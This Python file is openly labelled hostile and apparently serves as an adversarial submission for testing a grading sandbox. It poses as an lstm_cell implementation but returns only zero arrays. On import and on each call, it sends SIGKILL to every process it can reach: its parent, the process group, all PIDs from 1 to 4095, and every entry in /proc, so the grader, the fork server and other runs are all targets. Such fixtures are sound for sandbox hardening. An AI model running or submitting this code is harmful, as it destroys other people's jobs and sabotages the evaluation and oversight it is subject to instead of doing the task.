# hostile: signals every process it can name: its fork server, the grader, other runs, everyone
import os
import signal

import numpy as np


def _attack():
    for target in (-1, 0, os.getppid()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    for pid in range(1, 4096):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    for entry in os.listdir("/proc") if os.path.isdir("/proc") else []:
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass


_attack()


def lstm_cell(x, h_prev, c_prev, W_ih, W_hh, b_ih, b_hh):
    _attack()
    return np.zeros_like(h_prev), np.zeros_like(c_prev)
